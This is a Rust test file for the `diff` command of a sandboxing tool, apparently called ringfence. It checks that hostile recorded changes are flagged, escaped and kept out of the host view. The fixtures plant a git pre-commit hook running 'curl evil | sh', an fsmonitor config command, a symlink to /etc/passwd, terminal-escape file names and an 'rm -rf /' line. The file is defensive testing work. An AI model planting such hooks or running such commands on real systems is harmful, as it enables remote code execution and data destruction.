//! Kept sets, as `ringfence diff` shows them. The sets are made by hand, as hostile as a program could make them.

use std::ffi::OsString;
use std::fs;
use std::os::unix::ffi::OsStringExt;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

use ringfence::workspace::change::{Moment, OtherKind, WasKind};
use ringfence::workspace::kept::{self, Kept};
use ringfence::workspace::{Before, Change, ChangeSet, Node, Place, Stamp, Was};
use ringfence::{RunId, StateFolder};

use crate::stage::Stage;

const FIRST: &str = "01k50000000000000000000001";
const SECOND: &str = "01k50000000000000000000002";
const MOMENT: Moment = Moment { seconds: 1_760_000_000, nanoseconds: 0 };

/// A set that is being put together.
struct Making<'a> {
    stage: &'a Stage,
    kept: Kept,
    set: ChangeSet,
}

fn stamp(path: &Path) -> Stamp {
    let found = fs::symlink_metadata(path).unwrap();
    let moment = |seconds, nanoseconds: i64| Moment { seconds, nanoseconds: u32::try_from(nanoseconds).unwrap() };
    Stamp {
        device: found.dev(),
        inode: found.ino(),
        size: found.len(),
        modified: moment(found.mtime(), found.mtime_nsec()),
        changed: moment(found.ctime(), found.ctime_nsec()),
    }
}

impl<'a> Making<'a> {
    fn new(stage: &'a Stage, run: &str) -> Self {
        let state = StateFolder::prepare(stage.state()).unwrap();
        let run_id: RunId = run.parse().unwrap();
        let workspace = stage.work().canonicalize().unwrap();
        let found = fs::metadata(&workspace).unwrap();
        let set = ChangeSet {
            run_id: run_id.clone(),
            workspace,
            workspace_is: (found.dev(), found.ino()),
            subject: "python3 fix.py".to_owned(),
            began: MOMENT,
            ended: MOMENT,
            deny: vec!["**/.env".to_owned()],
            protect: Vec::new(),
            own: Vec::new(),
            size: u64::MAX,
            changes: Vec::new(),
        };
        Self { stage, kept: kept::of(&state, &run_id), set }
    }

    fn file(&self, bytes: &[u8], mode: u32) -> Option<Node> {
        let (content, size) = self.kept.objects().add(&mut &bytes[..], u64::MAX).unwrap();
        Some(Node::File { content, size, mode, modified: MOMENT })
    }

    fn with(mut self, place: impl Into<std::path::PathBuf>, before: Before, after: Option<Node>) -> Self {
        self.set.changes.push(Change { place: Place::new(place).unwrap(), before, after });
        self
    }

    fn adds(self, place: &str, text: impl AsRef<[u8]>) -> Self {
        let after = self.file(text.as_ref(), 0o644);
        self.with(place, Before::Nothing, after)
    }

    fn was(&self, place: &str, kind: WasKind) -> Before {
        let path = self.stage.work().join(place);
        Before::Was(Was { kind, mode: fs::symlink_metadata(&path).unwrap().mode() & 0o7777, stamp: stamp(&path) })
    }

    fn changes(self, place: &str, old: &str, new: &str, mode: u32) -> Self {
        self.stage.write(place, old);
        let (id, _) = self.kept.objects().add(&mut old.as_bytes(), u64::MAX).unwrap();
        let before = self.was(place, WasKind::File(Some(id)));
        let after = self.file(new.as_bytes(), mode);
        self.with(place, before, after)
    }

    fn removes(self, place: &str, text: &str) -> Self {
        self.stage.write(place, text);
        let before = self.was(place, WasKind::File(None));
        self.with(place, before, None)
    }

    fn links(self, place: &str, target: &str) -> Self {
        self.with(place, Before::Nothing, Some(Node::Link { target: target.into() }))
    }

    fn keep(mut self) {
        self.set.changes.sort_by(|one, other| one.place.cmp(&other.place));
        self.kept.keep(&self.set).unwrap();
    }
}

fn numbered(lines: std::ops::Range<usize>) -> String {
    lines.map(|line| format!("line {line}\n")).collect()
}

/// One of nearly everything.
fn sample(stage: &Stage) {
    let moved = numbered(0..12);
    let making = Making::new(stage, FIRST);
    let pipe = Some(Node::Other(OtherKind::Pipe));
    let folder = Some(Node::Folder { mode: 0o755 });
    making
        .adds(".env", "TOKEN=1\n")
        .adds(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
        .changes(".git/config", "[core]\n", "[core]\n\tfsmonitor = touch /tmp/p\n", 0o644)
        .changes("src/lib.rs", &numbered(0..20), &numbered(0..20).replace("line 9\n", "line nine\nand more\n"), 0o644)
        .changes("run.sh", "echo\n", "echo\n", 0o755)
        .with("src/new", Before::Nothing, folder)
        .adds("src/new/mod.rs", "pub fn new() {}")
        .adds("picture.png", b"\x89PNG\0\0")
        .adds("empty", "")
        .removes("old.txt", "one\ntwo\n")
        .removes("a/moved.txt", &moved)
        .adds("b/moved.txt", format!("{moved}one more\n"))
        .links("out", "/etc/passwd")
        .links("inside", "src/lib.rs")
        .with("pipe", Before::Nothing, pipe)
        .keep();
}

#[test]
fn a_set_is_shown_with_what_is_flagged_first() {
    let stage = Stage::new();
    sample(&stage);
    insta::assert_snapshot!(stage.ringfence(["diff"]).run().page(&stage));
}

#[test]
fn a_set_is_shown_as_a_list_in_colour() {
    let stage = Stage::new();
    sample(&stage);
    let ended = stage.ringfence(["diff", "last", "--stat", "--color", "always", "src", "*.png", ".git"]).run();
    insta::assert_snapshot!(ended.page(&stage).replace('\x1b', "␛"));
}

#[test]
fn a_set_as_json_has_every_change_and_stable_names() {
    let stage = Stage::new();
    sample(&stage);
    let whole = stage.ringfence(["diff", FIRST, "--json"]).run().expect(0, &[]);
    let json = whole.json();
    let changes = json["changes"].as_array().unwrap();
    let paired: usize = changes.iter().filter(|change| change.get("from").is_some()).count();
    assert_eq!((changes.len() + paired, paired), (15, 1));
    insta::assert_snapshot!(stage.neutral(&whole.text()));
    let list = stage.ringfence(["diff", "--json", "--stat"]).run().expect(0, &[]).json();
    assert_eq!(list["changes"].as_array().unwrap().len(), changes.len());
    assert!(list["changes"].as_array().unwrap().iter().all(|change| change.get("hunks").is_none()));
}

#[test]
fn every_path_is_listed_once_and_none_is_left_out() {
    let stage = Stage::new();
    sample(&stage);
    let names = stage.ringfence(["diff", "--name-only"]).run().expect(0, &[]).text();
    let mut names: Vec<&str> = names.lines().collect();
    names.sort_unstable();
    let mut expected = vec![
        ".env",
        ".git/config",
        ".git/hooks/pre-commit",
        "a/moved.txt",
        "b/moved.txt",
        "empty",
        "inside",
        "old.txt",
        "out",
        "picture.png",
        "pipe",
        "run.sh",
        "src/lib.rs",
        "src/new",
        "src/new/mod.rs",
    ];
    expected.sort_unstable();
    assert_eq!(names, expected);
}

#[test]
fn r12_f22_hostile_names_and_lines_are_escaped_and_exact_in_json() {
    let stage = Stage::new();
    let name = OsString::from_vec(b"a\n  added     innocent\x1b[2K\xff\xe2\x80\xae.txt".to_vec());
    let making = Making::new(&stage, FIRST);
    let text = "\x1b[8mhidden\x1b[0m\r\nrm -rf /\u{202e}\u{200b} \x07\n\u{9b}2J";
    let after = making.file(text.as_bytes(), 0o644);
    let target = OsString::from_vec(b"/\x1b]52;c;eA==\x07\n".to_vec());
    let mut making = making.with(name.clone(), Before::Nothing, after);
    making.set.subject = "sh -c '\x1b[31m\n'".to_owned();
    making.with("link", Before::Nothing, Some(Node::Link { target })).keep();
    for flags in [&["--color", "never"][..], &["--stat", "--color", "never"], &["--name-only"]] {
        let ended = stage.ringfence([&["diff", "last"], flags].concat()).run().expect(0, &[]);
        let acts = |c: char| (c.is_control() && c != '\n' && c != '\t') || ('\u{200b}'..='\u{202e}').contains(&c);
        assert!(!ended.text().contains(acts), "{:?}", ended.text());
        assert!(!ended.text().lines().any(|line| line.starts_with("  added     innocent")), "{}", ended.text());
    }
    insta::assert_snapshot!(stage.ringfence(["diff"]).run().page(&stage));
    let json = stage.ringfence(["diff", "--json"]).run().expect(0, &[]).json();
    let encoded = json["changes"][0]["pathBase64"].as_str().unwrap();
    let decoded =
        <base64::engine::GeneralPurpose as base64::Engine>::decode(&base64::engine::general_purpose::STANDARD, encoded);
    assert_eq!(decoded.unwrap(), name.into_vec());
    assert_eq!(json["changes"][0]["hunks"][0]["lines"][0]["text"], "\x1b[8mhidden\x1b[0m\r\n");
}

#[test]
fn a_run_is_chosen_by_its_id_its_first_letters_or_as_the_last_of_this_workspace() {
    let stage = Stage::new();
    stage.ringfence(["diff"]).run().expect(125, &["no changes are kept of a run in", "hint: "]);
    Making::new(&stage, FIRST).adds("first", "x\n").keep();
    let mut elsewhere = Making::new(&stage, SECOND).adds("second", "x\n");
    elsewhere.set.workspace = stage.path().join("elsewhere");
    elsewhere.keep();
    let names = |run: &str| stage.ringfence(["diff", run, "--name-only"]).run().expect(0, &[]).text();
    assert_eq!(names("last"), "first\n");
    assert_eq!(names(SECOND), "second\n");
    stage.ringfence(["diff", "01k5"]).run().expect(125, &["2 runs", "write more of the id"]);
    stage.ringfence(["diff", "zzz"]).run().expect(125, &["no changes are kept of a run that begins with `zzz`"]);
    stage.ringfence(["diff", ""]).run().expect(125, &["error: "]);
    stage.ringfence(["diff", FIRST, "nothing/here"]).run().expect(125, &["\"nothing/here\" is not among the changes"]);
    fs::create_dir(stage.work().join("below")).unwrap();
    let below = stage.ringfence(["diff", "--name-only"]).cwd(stage.work().join("below")).run().expect(0, &[]).text();
    assert_eq!(below, "first\n");
}

#[test]
fn paths_choose_from_here_from_the_workspace_and_by_patterns() {
    let stage = Stage::new();
    Making::new(&stage, FIRST).adds("a/x.rs", "x\n").adds("a/y.txt", "y\n").adds("b/x.rs", "z\n").keep();
    fs::create_dir_all(stage.work().join("a")).unwrap();
    let names = |words: &[&str], here: &str| {
        let words = [&["diff", "last", "--name-only"], words].concat();
        stage.ringfence(words).cwd(stage.work().join(here)).run().expect(0, &[]).text()
    };
    assert_eq!(names(&["a"], ""), "a/x.rs\na/y.txt\n");
    assert_eq!(names(&["**/*.rs"], ""), "a/x.rs\nb/x.rs\n");
    assert_eq!(names(&["x.rs"], "a"), "a/x.rs\n");
    assert_eq!(names(&["b/x.rs"], "a"), "b/x.rs\n");
    assert_eq!(names(&["."], "a"), "a/x.rs\na/y.txt\n");
    assert_eq!(names(&["./a/x.rs", "b"], ""), "a/x.rs\nb/x.rs\n");
}

#[test]
fn what_changed_on_the_host_since_is_said() {
    let stage = Stage::new();
    Making::new(&stage, FIRST).removes("gone.txt", "one\n").keep();
    let shown = || stage.ringfence(["diff"]).run().expect(0, &[]).text();
    assert!(shown().contains("\n-one\n"), "the twin: {}", shown());
    stage.write("gone.txt", "two\n");
    assert!(shown().contains("the host's file changed since"), "{}", shown());
    assert!(!shown().contains("two"), "{}", shown());
}

#[test]
fn s01_a_file_that_the_policy_denies_is_not_read_from_the_host() {
    let stage = Stage::new();
    Making::new(&stage, FIRST).removes(".env", "TOKEN=canary\n").removes("env", "TOKEN=twin\n").keep();
    for flags in [&[][..], &["--json"]] {
        let shown = stage.ringfence([&["diff", "last"], flags].concat()).run().expect(0, &[]).text();
        assert!(!shown.contains("canary") && shown.contains("twin"), "{shown}");
    }
}

#[test]
fn an_empty_set_and_a_damaged_one_say_so() {
    let stage = Stage::new();
    Making::new(&stage, FIRST).keep();
    assert!(stage.ringfence(["diff"]).run().expect(0, &[]).text().ends_with("no changes\n"));
    let list = stage.state().join("changes").join(FIRST).join("list");
    fs::write(&list, "damage").unwrap();
    stage.ringfence(["diff"]).run().expect(125, &["could not read the changes", "cut short"]);
}

#[test]
fn colours_are_for_terminals_and_for_who_asks() {
    let stage = Stage::new();
    Making::new(&stage, FIRST).adds("Makefile", "all:\n").keep();
    let shown = |flags: &[&str]| stage.ringfence([&["diff", "last"], flags].concat()).env("NO_COLOR", "1").run().text();
    assert!(!shown(&[]).contains('\x1b'));
    assert!(shown(&["--color", "always"]).contains("\x1b[32m+all:"));
}
